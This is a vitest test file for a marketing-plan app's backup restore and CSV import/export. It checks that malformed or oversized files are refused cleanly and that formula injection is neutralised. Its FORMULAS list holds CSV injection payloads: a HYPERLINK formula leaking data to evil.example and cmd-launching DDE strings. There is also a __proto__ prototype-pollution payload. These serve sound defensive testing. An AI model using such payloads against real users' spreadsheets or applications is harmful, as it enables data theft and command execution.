/**
 * Point 4: broken files. A backup that is truncated, of another version, of wrong types, with duplicate ids,
 * with references to what is not there, or of 100 MB gets one clear sentence and leaves the store exactly as
 * it was (every row of every table compared before and after, for the preview and for the restore).
 * Console CSV exports in a wrong encoding, without a header, ragged, or carrying formulas are read or refused
 * with a reason, never half-stored. Every CSV Planpilot writes neutralises formula injection.
 */
import Papa from 'papaparse';
import { describe, expect, it, vi } from 'vitest';
import type { PlanpilotDb } from '@/lib/db';
import { previewRestore, restoreBackup } from '@/lib/db';
import { type Backup, backupText, MAX_BACKUP_CHARS, parseBackup } from '@/lib/domain';
import { neutralizeFormula, weeklyReportCsv } from '@/lib/export/csv';
import {
  capturesFromExtraction,
  importCaptures,
  MAX_IMPORT_BYTES,
  planTemplateCsv,
  previewPlanTemplate,
  rangeFor,
  readConsoleExport,
} from '@/lib/imports';
import { buildWeeklyReport, planDataFromBackup } from '@/lib/kpi';
import { report, seedPlanB } from '../db/fixtures';
import { DEMO_PLAN, demo, demoJson, demoText, dumpAll, freshDb, type RawBackup } from '../db/helpers';

/** The demo plan and a second plan, stored: what a refused file must leave exactly as it is. */
async function seeded(): Promise<PlanpilotDb> {
  const db = await freshDb();
  expect(await restoreBackup(db, demoText)).toMatchObject({ ok: true });
  await seedPlanB(db);
  return db;
}

const edit = (change: (b: RawBackup) => void) => () => {
  const b = demoJson();
  change(b);
  return JSON.stringify(b);
};

/** [case, file text, what the sentence must say, the path it names]. */
const BACKUPS: [string, () => string, RegExp, string][] = [
  ['an empty file', () => '', /not a JSON file/, ''],
  ['whitespace only', () => ' \n\t ', /not a JSON file/, ''],
  ['truncated in the middle', () => demoText.slice(0, Math.floor(demoText.length * 0.7)), /not a JSON file/, ''],
  ['truncated by one character', () => demoText.trimEnd().slice(0, -1), /not a JSON file/, ''],
  ['a byte-order mark and garbage', () => '\uFEFF\u0000\u0001PK\u0003\u0004', /not a JSON file/, ''],
  ['JSON nested 100,000 deep', () => `${'['.repeat(100_000)}${']'.repeat(100_000)}`, /not a Planpilot backup/, 'format'],
  ['JSON null', () => 'null', /not a Planpilot backup/, 'format'],
  ['a JSON array', () => `[${demoText}]`, /not a Planpilot backup/, 'format'],
  ['another format', edit((b) => Object.assign(b, { format: 'other-app' })), /not a Planpilot backup/, 'format'],
  ['no format', edit((b) => Object.assign(b, { format: undefined })), /not a Planpilot backup/, 'format'],
  ['a future version', edit((b) => Object.assign(b, { version: 2 })), /unknown backup version 2/, 'version'],
  ['version as text', edit((b) => Object.assign(b, { version: '1' })), /unknown backup version "1"/, 'version'],
  ['version 0', edit((b) => Object.assign(b, { version: 0 })), /unknown backup version 0/, 'version'],
  ['a budget as text', edit((b) => Object.assign(b.actions[2] ?? {}, { budget: '9000' })), /actions\[2\]\.budget/, 'actions[2].budget'],
  ['a negative budget', edit((b) => Object.assign(b.actions[2] ?? {}, { budget: -1 })), /actions\[2\]\.budget/, 'actions[2].budget'],
  [
    'an unknown channel',
    edit((b) => Object.assign(b.actions[0] ?? {}, { channel: 'carrier-pigeon' })),
    /actions\[0\]\.channel/,
    'actions[0].channel',
  ],
  ['an impossible date', edit((b) => Object.assign(b.plans[0] ?? {}, { end: '2026-02-30' })), /plans\[0\]\.end/, 'plans[0].end'],
  [
    'a capture without a range',
    edit((b) => Object.assign(b.captures[7] ?? {}, { dateRange: null })),
    /captures\[7\]\.dateRange/,
    'captures[7].dateRange',
  ],
  [
    'a figure as text',
    edit((b) => Object.assign((b.captures[40] as { metrics: object }).metrics, { clicks: '1 200' })),
    /captures\[40\]\.metrics\.clicks/,
    'captures[40].metrics.clicks',
  ],
  ['plans not an array', edit((b) => Object.assign(b, { plans: { 0: b.plans[0] } })), /plans/, 'plans'],
  ['no actions table', edit((b) => Object.assign(b, { actions: undefined })), /actions/, 'actions'],
  ['a duplicate action id', edit((b) => Object.assign(b.actions[5] ?? {}, { id: 'act-a02' })), /duplicate id "act-a02"/, 'actions[5].id'],
  [
    'a duplicate capture id',
    edit((b) => Object.assign(b.captures[9] ?? {}, { id: (b.captures[3] as { id: string }).id })),
    /duplicate id/,
    'captures[9].id',
  ],
  [
    'an objective of a missing plan',
    edit((b) => Object.assign(b.objectives[1] ?? {}, { planId: 'plan-nope' })),
    /missing plan "plan-nope"/,
    'objectives[1].planId',
  ],
  [
    'an action of a missing plan',
    edit((b) => Object.assign(b.actions[4] ?? {}, { planId: 'plan-nope' })),
    /missing plan "plan-nope"/,
    'actions[4].planId',
  ],
  [
    'a snapshot of a missing plan',
    edit((b) =>
      b.snapshots.push({
        id: 's',
        planId: 'plan-nope',
        weekStart: '2026-11-09',
        version: 1,
        takenAt: '2026-11-17T06:00:00+01:00',
        report: report('plan-nope', '2026-11-09', '2026-11-15'),
      }),
    ),
    /missing plan "plan-nope"/,
    'snapshots[0].planId',
  ],
  [
    'a spend entry of a missing action',
    edit((b) => Object.assign(b.spendEntries[3] ?? {}, { actionId: 'act-nope' })),
    /missing action "act-nope"/,
    'spendEntries[3].actionId',
  ],
  [
    'a link to a missing action',
    edit((b) => Object.assign(b.campaignLinks[0] ?? {}, { actionId: 'act-nope' })),
    /missing action "act-nope"/,
    'campaignLinks[0].actionId',
  ],
  [
    'an action serving a missing objective',
    edit((b) => Object.assign(b.actions[1] ?? {}, { objectiveIds: ['obj-nope'] })),
    /missing objective "obj-nope"/,
    'actions[1].objectiveIds[0]',
  ],
  [
    'an id another plan uses in this browser',
    edit((b) => Object.assign(b.spendEntries[3] ?? {}, { id: 'b-dep-1' })),
    /"b-dep-1" is already used in this browser by another plan/,
    'spendEntries[3].id',
  ],
];

describe('a broken backup is refused whole, with one sentence, and the store is untouched', () => {
  it.each(BACKUPS)('%s', async (_what, file, sentence, path) => {
    const db = await seeded();
    const before = await dumpAll(db);
    const text = file();
    const preview = await previewRestore(db, text);
    const restore = await restoreBackup(db, text);
    for (const result of [preview, restore]) {
      expect(result.ok).toBe(false);
      if (result.ok) continue;
      expect(result.error).toMatch(sentence);
      expect(result.error.split('\n')).toHaveLength(1); // one sentence, no stack, no dump
      expect(result.error.length).toBeLessThan(300);
      expect(result.path).toBe(path);
    }
    expect(await dumpAll(db)).toEqual(before);
  });

  it('the refusals name every case differently enough to act on (no catch-all sentence)', () => {
    const sentences = new Set(
      BACKUPS.map(([, file]) => {
        const r = parseBackup(file());
        return r.ok ? 'ok' : r.error.replace(/\[\d+\]/g, '[]');
      }),
    );
    expect(sentences.size).toBeGreaterThan(15);
  });

  it('a file carrying __proto__ keys pollutes nothing', async () => {
    const db = await seeded();
    const text = demoText.replace(
      '"format"',
      '"__proto__": { "polluted": true }, "constructor": { "prototype": { "polluted": true } }, "format"',
    );
    expect(await restoreBackup(db, text)).toMatchObject({ ok: true });
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.hasOwn((await db.plans.get(DEMO_PLAN)) ?? {}, '__proto__')).toBe(false);
  });
});

describe('an import file over the size bound', () => {
  it('a console export over 10 MB is refused by its size, before it is parsed, with a code the panel words', () => {
    const line = 'Brand,12.50,30\n';
    const big = new TextEncoder().encode(`Campaign,Cost,Clicks\n${line.repeat(Math.ceil(MAX_IMPORT_BYTES / line.length))}`);
    const parse = vi.spyOn(Papa, 'parse');
    expect(readConsoleExport(big, 'big.csv')).toEqual({ ok: false, fileName: 'big.csv', code: 'too-large', reason: 'more than 10 MB' });
    expect(parse).not.toHaveBeenCalled();
    parse.mockRestore();
    // The bound is on the size alone: the same lines, fewer of them, are read.
    expect(readConsoleExport(big.subarray(0, 21 + line.length * 3), 'small.csv').ok).toBe(true);
  });

  it('a plan template over 10 MB is refused before its lines are read', () => {
    const text = `Code,Nom\n${'A1,Action\n'.repeat(Math.ceil(MAX_IMPORT_BYTES / 10) + 1)}`;
    const result = previewPlanTemplate(text, 'plan-1', [], 'fr-FR', () => 'act-x');
    expect(result).toEqual({ ok: false, issue: { key: 'import.tpl.err.tooLarge', params: { mb: 10 } } });
  });
});

describe('a backup Planpilot writes', () => {
  it('is compact JSON, and says when it is larger than a restore reads (the panel then offers one file per plan)', () => {
    const b = demoJson() as unknown as Backup;
    const small = backupText(b);
    expect(small).toMatchObject({ fits: true, mb: 1 });
    expect(small.text).toBe(JSON.stringify(b));
    expect(parseBackup(small.text).ok).toBe(true);
    const big = backupText({ ...b, plans: [{ ...(b.plans[0] as Backup['plans'][number]), notes: 'n'.repeat(MAX_BACKUP_CHARS) }] });
    expect(big).toMatchObject({ fits: false, mb: 51 });
    expect(parseBackup(big.text).ok).toBe(false);
  });
});

describe('a 100 MB file', () => {
  // Built once, in memory: a well-formed backup whose notes are 100 MB long.
  const huge = (() => {
    const b = demoJson();
    const head = JSON.stringify({ ...b, plans: [{ ...b.plans[0], notes: '@@' }] });
    return head.replace('"@@"', `"${'x'.repeat(100 * 1024 * 1024)}"`);
  })();

  it('is refused before it is parsed, with its size and the limit in the sentence; the store is untouched', async () => {
    expect(huge.length).toBeGreaterThan(100 * 1024 * 1024);
    const db = await seeded();
    const before = await dumpAll(db);
    const parse = vi.spyOn(JSON, 'parse');
    const parsed = parseBackup(huge);
    const preview = await previewRestore(db, huge);
    const restore = await restoreBackup(db, huge);
    expect(parse.mock.calls.filter(([text]) => text === huge)).toEqual([]);
    parse.mockRestore();
    for (const r of [parsed, preview, restore]) {
      expect(r).toMatchObject({ ok: false, path: '' });
      if (!r.ok) expect(r.error).toMatch(/^this file is too large for a Planpilot backup \(100\.\d MB; the limit is 50\.0 MB\)$/);
    }
    expect(await dumpAll(db)).toEqual(before);
  });

  it('a file just under the limit is still read (the limit refuses only what is too large)', () => {
    const b = demoJson();
    const text = JSON.stringify({ ...b, plans: [{ ...b.plans[0], notes: 'y'.repeat(MAX_BACKUP_CHARS - demoText.length - 1024) }] });
    expect(text.length).toBeLessThanOrEqual(MAX_BACKUP_CHARS);
    expect(parseBackup(text).ok).toBe(true);
  });
});

// ── console CSV exports ──

const utf8 = (text: string) => new TextEncoder().encode(text);
const cp1252 = (text: string) => Uint8Array.from([...text].map((c) => (c === '€' ? 0x80 : c.charCodeAt(0))));
const utf16 = (text: string, order: 'le' | 'be', bom: boolean) => {
  const out: number[] = bom ? (order === 'le' ? [0xff, 0xfe] : [0xfe, 0xff]) : [];
  for (const c of text) {
    const u = c.charCodeAt(0);
    out.push(...(order === 'le' ? [u & 0xff, u >> 8] : [u >> 8, u & 0xff]));
  }
  return Uint8Array.from(out);
};

const GOOD = 'Campaign,Cost,Clicks,Impressions\nBrand,12.50,30,900\nGeneric,8.00,12,400\n';
const FR = 'Campagne;Coût;Clics;Impressions\nMarque été;12,50;30;900\nGénérique;8,00;12;400\n';

/** The side panel's flow: read the file, then (only when readable, with a range) store its captures. */
async function importFile(db: PlanpilotDb, bytes: Uint8Array, name: string) {
  const reading = readConsoleExport(bytes, name);
  if (!reading.ok) return reading;
  const range = rangeFor(reading.extraction, { start: '2026-11-01', end: '2026-11-23' });
  if (!range) throw new Error('no range');
  let n = 0;
  await importCaptures(
    db,
    capturesFromExtraction(reading.extraction, range, name, new Date('2026-11-24T09:00:00Z'), () => `cap-import-${++n}`),
  );
  return reading;
}

describe('a console export that cannot be read is refused with its reason, and nothing is stored', () => {
  const png = Uint8Array.from([
    0x89,
    0x50,
    0x4e,
    0x47,
    0x0d,
    0x0a,
    0x1a,
    0x0a,
    ...Array.from({ length: 2000 }, (_, i) => (i * 7919) % 256),
  ]);
  const zip = Uint8Array.from([
    0x50,
    0x4b,
    0x03,
    0x04,
    ...utf8('xl/worksheets/sheet1.xml'),
    ...Array.from({ length: 500 }, (_, i) => (i * 31) % 256),
  ]);
  it.each([
    ['an empty file', new Uint8Array(), 'no-grid', /no header row with recognisable metric columns/],
    ['an image', png, 'no-grid', /no header row/],
    ['an Excel workbook (zip), not a CSV', zip, 'no-grid', /no header row/],
    ['no header (data rows only)', utf8('Brand,12.50,30,900\nGeneric,8.00,12,400\n'), 'no-grid', /no header row/],
    ['a header of unknown columns', utf8('Name,Colour,Mood\nA,red,happy\n'), 'no-grid', /no header row/],
    ['a header and no row', utf8('Campaign,Cost,Clicks\n'), 'no-rows', /no data row/],
    ['"No data available."', utf8('Campaign,Cost,Clicks\nNo data available.\n'), 'no-rows', /no data row/],
  ] as const)('%s', async (_what, bytes, code, reason) => {
    const db = await seeded();
    const before = await dumpAll(db);
    const reading = await importFile(db, bytes, 'export.csv');
    expect(reading).toMatchObject({ ok: false, code, fileName: 'export.csv' });
    if (!reading.ok) expect(reading.reason).toMatch(reason);
    expect(await dumpAll(db)).toEqual(before);
  });
});

describe('a console export in another encoding or shape is read as the user sees it', () => {
  it.each([
    [
      'Windows-1252 with accents and euros',
      cp1252('Campagne;Coût;Clics\nMarque été;12,50 €;30\nGénérique;8,00 €;12\n'),
      ['Marque été', 'Générique'],
      [12.5, 8],
    ],
    ['UTF-16LE with BOM (Google Ads)', utf16(FR.replaceAll(';', '\t'), 'le', true), ['Marque été', 'Générique'], [12.5, 8]],
    ['UTF-16LE without BOM', utf16(FR.replaceAll(';', '\t'), 'le', false), ['Marque été', 'Générique'], [12.5, 8]],
    ['UTF-16BE with BOM', utf16(FR, 'be', true), ['Marque été', 'Générique'], [12.5, 8]],
    ['UTF-8 with BOM', Uint8Array.from([0xef, 0xbb, 0xbf, ...utf8(GOOD)]), ['Brand', 'Generic'], [12.5, 8]],
    [
      'ragged rows (a cell short, a cell too many)',
      utf8('Campaign,Cost,Clicks,Impressions\nBrand,12.50,30\nGeneric,8.00,12,400,extra,cells\n'),
      ['Brand', 'Generic'],
      [12.5, 8],
    ],
  ] as const)('%s', async (_what, bytes, names, costs) => {
    const db = await freshDb();
    const reading = await importFile(db, bytes, 'export.csv');
    expect(reading.ok).toBe(true);
    const stored = await db.captures.orderBy('seq').toArray();
    expect(stored.map((c) => c.campaignName)).toEqual(names);
    expect(stored.map((c) => c.metrics.cost)).toEqual(costs);
  });

  it('a short row leaves its missing figures out (missing is not zero)', async () => {
    const db = await freshDb();
    await importFile(db, utf8('Campaign,Cost,Clicks,Impressions\nBrand,12.50,30\n'), 'export.csv');
    expect((await db.captures.toArray())[0]?.metrics).toEqual({ cost: 12.5, clicks: 30 });
  });
});

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

describe('formula-injection cells', () => {
  it('are kept as inert text in names and are no figure in figure columns', async () => {
    const db = await freshDb();
    const rows = FORMULAS.map((f, i) => [f, i === 0 ? '=1+1' : `${i}.00`, '10', '100']);
    const csv = Papa.unparse({ fields: ['Campaign', 'Cost', 'Clicks', 'Impressions'], data: rows });
    const reading = await importFile(db, utf8(csv), 'export.csv');
    expect(reading.ok).toBe(true);
    const stored = await db.captures.orderBy('seq').toArray();
    expect(stored.map((c) => c.campaignName?.trim())).toEqual(FORMULAS.map((f) => f.trim()));
    expect(stored[0]?.metrics.cost).toBeUndefined(); // `=1+1` is not 2
  });

  it.each(FORMULAS)('neutralizeFormula(%j) starts with an apostrophe', (f) => {
    expect(neutralizeFormula(f)).toBe(`'${f}`);
  });

  it.each(['Brand', 'Été 2026', '12 €', "l'été", ' =not at the start'])('neutralizeFormula(%j) is left alone', (text) => {
    expect(neutralizeFormula(text)).toBe(text);
  });

  /** Every cell of a CSV Planpilot writes: none may start a formula unless it is a plain number. */
  const formulaCells = (csv: string, delimiter: string) =>
    Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter })
      .data.flat()
      .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(?:[.,]\d+)?$/.test(cell));

  it('the weekly report CSV and the plan template CSV neutralise every formula an action carries', () => {
    const b = demo();
    b.actions = b.actions.map((a, i) => ({
      ...a,
      name: FORMULAS[i % FORMULAS.length] as string,
      code: i === 0 ? '=A1' : a.code,
      owner: i === 1 ? '@boss' : a.owner,
    }));
    const data = planDataFromBackup(b, DEMO_PLAN);
    if (!data) throw new Error('no demo plan');
    for (const [locale, delimiter] of [
      ['fr-FR', ';'],
      ['en-US', ','],
    ] as const) {
      const report = weeklyReportCsv(buildWeeklyReport(data, '2026-11-16'), locale);
      const template = planTemplateCsv(data.actions, locale);
      expect(formulaCells(report, delimiter)).toEqual([]);
      expect(formulaCells(template, delimiter)).toEqual([]);
      // The text itself is kept (after the apostrophe): nothing is lost.
      expect(report).toContain(`'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")`);
    }
  });
});
